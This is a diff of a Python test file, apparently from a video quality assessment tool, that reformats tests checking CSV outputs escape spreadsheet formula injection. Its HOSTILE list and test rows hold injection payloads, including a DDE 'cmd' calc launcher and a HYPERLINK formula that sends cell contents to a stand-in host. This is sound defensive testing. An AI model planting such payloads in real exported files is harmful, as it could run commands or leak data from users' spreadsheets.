@@ -5,6 +5,7 @@ One test per writer: manifests (``vqa_core.manifest.write_manifest``, which the 
 datasets and ``vqa dataset make`` use; ``vqa extract-folder``'s folder manifest),
 ``predictions.csv`` and ``comparison.csv`` (``regressors.report``) and ``vqa predict``'s scores.
 """
+
 from __future__ import annotations
 
 import csv
@@ -22,7 +23,7 @@ from vqa_core.manifest import read_manifest, write_manifest
 # What a hostile-input review put into video ids and run names.
 HOSTILE = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+    '=HYPERLINK("http://x.example/?"&A1,"open")',
     "+1+2",
     "-2+3",
     "@SUM(A1:A2)",
@@ -46,6 +47,7 @@ def assert_spreadsheet_safe(cells: list[str]) -> None:
 
 
 # ---- the helper --------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("value", HOSTILE + PLAIN)
 def test_escape_and_unescape_round_trip(value):
@@ -76,12 +78,14 @@ def test_numbers_are_never_escaped_and_dict_readers_unescape_names_and_values():
 
 # ---- manifests ---------------------------------------------------------------------------------
 
+
 def test_write_manifest_escapes_and_read_manifest_round_trips(tmp_path):
     """Also the synthetic datasets' and ``vqa dataset make``'s manifests (they use write_manifest).
     Values starting with a tab or CR are left out: the manifest reader trims spaces around values."""
     ids = [v for v in HOSTILE if not v[0].isspace()] + ["clip 01", "-0.25"]
-    rows = [{"video_id": v, "path": Path(tmp_path / f"v{i}.mp4"), "mos": -1.5 + i, "group": v}
-            for i, v in enumerate(ids)]
+    rows = [
+        {"video_id": v, "path": Path(tmp_path / f"v{i}.mp4"), "mos": -1.5 + i, "group": v} for i, v in enumerate(ids)
+    ]
     path = write_manifest(tmp_path / "m.csv", rows)
     raw = raw_cells(path)
     assert raw[1][0] == "'=cmd|' /C calc'!A0" and raw[-1][0] == "-0.25" and raw[1][2] == "-1.5"
@@ -112,6 +116,7 @@ def test_extract_folder_manifest_escapes_file_names_and_reads_back(tmp_path):
 
 # ---- reports -----------------------------------------------------------------------------------
 
+
 def _evaluation(n: int):
     from regressors.protocols import EvaluationResult
 
@@ -121,8 +126,9 @@ def _evaluation(n: int):
     predictions[0] = -0.75  # a negative score stays a number
     per_split = [{"srcc": 0.8, "krcc": 0.6, "plcc": 0.8, "plcc_raw": 0.8, "rmse": 0.4, "split": 0}]
     median = {k: per_split[0][k] for k in ("srcc", "krcc", "plcc", "plcc_raw", "rmse")}
-    return EvaluationResult(per_split=per_split, median=median, predictions=predictions,
-                            n_tested=np.ones(n, dtype=int)), mos
+    return EvaluationResult(
+        per_split=per_split, median=median, predictions=predictions, n_tested=np.ones(n, dtype=int)
+    ), mos
 
 
 def test_predictions_csv_escapes_video_ids(tmp_path):
@@ -145,12 +151,24 @@ def test_predictions_csv_escapes_video_ids(tmp_path):
 def test_comparison_csv_escapes_run_names_and_features(tmp_path):
     from regressors.report import write_comparison
 
-    rows = [{"run": "=HYPERLINK(\"http://x.example\",\"ok\")", "head": "svr", "features": "@resnet50",
-             "protocol": "fmc", "n_videos": 12, "srcc": -0.1, "krcc": 0.2, "plcc": 0.3, "plcc_raw": 0.3,
-             "rmse": 0.5, "scatter": str(tmp_path / "scatter.png")}]
+    rows = [
+        {
+            "run": '=HYPERLINK("http://x.example","ok")',
+            "head": "svr",
+            "features": "@resnet50",
+            "protocol": "fmc",
+            "n_videos": 12,
+            "srcc": -0.1,
+            "krcc": 0.2,
+            "plcc": 0.3,
+            "plcc_raw": 0.3,
+            "rmse": 0.5,
+            "scatter": str(tmp_path / "scatter.png"),
+        }
+    ]
     paths = write_comparison(tmp_path / "cmp", rows)
     raw = raw_cells(paths["csv"])
-    assert raw[1][:3] == ["'=HYPERLINK(\"http://x.example\",\"ok\")", "svr", "'@resnet50"]
+    assert raw[1][:3] == ['\'=HYPERLINK("http://x.example","ok")', "svr", "'@resnet50"]
     assert raw[1][5] == "-0.1"
     with open(paths["csv"], newline="") as fh:
         (back,) = list(csvsafe.DictReader(fh))
@@ -168,8 +186,9 @@ def test_vqa_predict_scores_escape_video_ids(tmp_path):
     ids = [v for v in HOSTILE if not v[0].isspace()]  # manifest values are trimmed
     rng = np.random.default_rng(1)
     for video_id in ids:
-        store.write_video(set_id, video_id, rng.normal(size=(2, 3)),
-                          provenance={"set": {}, "video": {"source": f"{video_id}.mp4"}})
+        store.write_video(
+            set_id, video_id, rng.normal(size=(2, 3)), provenance={"set": {}, "video": {"source": f"{video_id}.mp4"}}
+        )
     head = SVRHead().fit(store.read_videos(set_id, ids), rng.normal(size=len(ids)))
     save_head(head, tmp_path / "model", feature_info={"feature_sets": [feature_set_identity(store, set_id)]})
     manifest = write_manifest(tmp_path / "m.csv", [{"video_id": v, "path": f"v{i}.mp4"} for i, v in enumerate(ids)])
